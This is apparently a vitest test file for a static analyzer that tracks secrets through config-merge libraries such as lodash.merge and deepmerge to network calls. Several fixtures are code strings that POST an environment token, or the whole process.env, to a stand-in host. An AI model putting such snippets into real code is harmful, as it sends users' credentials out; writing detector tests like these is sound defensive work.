import { describe, expect, test } from "vitest";
import { foundIn } from "./found-in.ts";

const settings = `{ token: process.env.ACME_TOKEN, host: "https://a.test", http: { retries: 2 } }`;
const asked = `fetch(all.host + "/x?r=" + all.http.retries);`;
const told = `fetch("https://a.test", { method: "POST", body: all.token });`;

const merges = [
  `const all = require("lodash.merge")({}, ${settings}, given);`,
  `const all = require("lodash").merge({}, ${settings}, given);`,
  `const all = {}; require("lodash").defaultsDeep(all, given, ${settings});`,
  `const all = require("deepmerge")(${settings}, given);`,
  `const all = require("deepmerge").all([${settings}, given]);`,
  `const { defu } = require("defu"); const all = defu(given, ${settings});`,
  `const all = require("extend")(true, {}, ${settings}, given);`,
  `const all = require("xtend")(${settings}, given);`,
  `const all = require("object-assign")({}, ${settings});`,
];

describe("settings that are merged stay apart", () => {
  test.each(merges)("%s", (merge) => {
    const { flows, atoms } = foundIn(`module.exports = (given) => { ${merge} ${asked} };`);
    expect(flows).toEqual([]);
    expect(atoms).toContain("snk.net literal a.test");
  });

  test("those of a file of the user among them", () => {
    const { flows } = foundIn(`
      const { loadConfig } = require("c12");
      exports.run = async () => { const { config: all } = await loadConfig({ defaults: ${settings} }); ${asked} };`);
    expect(flows).toEqual([]);
  });
});

describe("a token among them is still found", () => {
  test.each(merges)("%s", (merge) => {
    const { flows } = foundIn(`module.exports = (given) => { ${merge} ${told} };`);
    expect(flows).toContain("src.env.secret -> snk.net:body");
  });

  test.each([
    `const all = require("lodash.merge")({}, process.env);`,
    `const all = require("deepmerge")({}, process.env);`,
    `const all = require("lodash").merge({ http: {} }, { http: { all: process.env } });`,
  ])("as is the whole environment: %s", (merge) => {
    const { flows } = foundIn(
      `${merge} fetch("https://a.test", { method: "POST", body: JSON.stringify(all) });`,
    );
    expect(flows).toContain("src.env.bulk -> snk.net:body");
  });

  test("and what somebody else's function makes of them", () => {
    const { flows } = foundIn(
      `const all = require("lodash").mergeWith({}, ${settings}, (a, b) => a + b); fetch("https://a.test", { method: "POST", body: all.other });`,
    );
    expect(flows).toContain("src.env.secret -> snk.net:body");
  });
});
